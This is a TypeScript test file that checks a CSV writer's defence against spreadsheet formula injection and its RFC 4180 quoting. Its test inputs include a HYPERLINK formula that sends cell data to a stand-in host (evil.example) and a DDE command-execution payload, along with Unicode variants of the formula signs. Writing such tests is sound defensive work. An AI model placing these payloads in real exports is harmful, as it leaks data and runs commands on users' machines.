import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvColumns, csvLine, csvText, formulaSafe } from './csv';

const semicolons = { delimiter: ';', bom: false } as const;

describe('the formula rule', () => {
  it('makes text that a spreadsheet would run into text, with a leading apostrophe', () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"Smelltu")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+2',
      '-2+3',
      '\t=1+2',
      '\r=1+2',
      '\n=1+2',
      '\0=1+2',
      '  =1+2',
      '\u00a0=1+2',
      '\uFF1D1+2',
      '\uFF0B1',
      '\uFF0D1',
      '\uFF20SUM(1)',
      '\t',
    ];
    for (const text of formulas) expect(formulaSafe(text), JSON.stringify(text)).toBe(`'${text}`);
  });

  it('leaves ordinary text alone, a formula sign inside it too', () => {
    for (const text of ['Þórdís Ægisdóttir', 'Flug; og "myndir" ehf.', '550101-2030', 'a=b', "'=already text", '', '1+1']) {
      expect(formulaSafe(text)).toBe(text);
    }
  });
});

describe('the CSV writer', () => {
  it('writes a negative number as a number and the same digits as text as text', () => {
    expect(csvLine([-500, '-500', 0, 15000], semicolons)).toBe("-500;'-500;0;15000\r\n");
    expect(() => csvLine([Number.NaN], semicolons)).toThrow();
  });

  it('quotes by RFC 4180 after the rule, so a formula cannot break out of its cell', () => {
    const line = csvLine(['=1+2";=3+4', 'a;b', 'two\r\nlines', null, undefined, ''], semicolons);
    expect(line).toBe(`"'=1+2"";=3+4";"a;b";"two\r\nlines";;;\r\n`);
    expect(parse(line, { delimiter: ';' })).toEqual([['\'=1+2";=3+4', 'a;b', 'two\r\nlines', '', '', '']]);
  });

  it('writes a byte order mark only when asked, the heading line, and a line a row', () => {
    expect(csvText(['a', 'b'], [], semicolons)).toBe('a;b\r\n');
    expect(csvText(['a', 'b'], [[1, 'x,y']], { delimiter: ',', bom: true })).toBe('\uFEFFa,b\r\n1,"x,y"\r\n');
  });

  it('puts the cells of a record in the order of its columns', () => {
    const table = csvColumns(['name', 'amount'] as const, (key) => key.toUpperCase());
    expect(table.headings).toEqual(['NAME', 'AMOUNT']);
    expect(table.cellsOf({ amount: 5, name: '@x' })).toEqual(['@x', 5]);
  });
});
